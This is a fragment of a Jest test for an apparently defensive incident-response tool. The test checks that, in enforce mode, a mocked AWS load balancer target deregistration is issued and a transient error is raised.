        { incident, mode: 'enforce', options, execution: EXECUTION },
        { clients, logger: silentLogger, records: racing, sealer: TEST_SEALER, grants: storeGranting(incident, NOW), environment: stepEnvironment(options), now: () => NOW },
      ),
    ).rejects.toThrow(expect.objectContaining({ name: 'TransientResponderError' }));
    expect(inputsOf(elbv2Mock, DeregisterTargetsCommand)).toEqual([{ TargetGroupArn: WEB_TG, Targets: [{ Id: INSTANCE_ID, Port: 80 }] }]);
    expect(elbMock.commandCalls(DeregisterInstancesFromLoadBalancerCommand)).toHaveLength(0);
  });
});
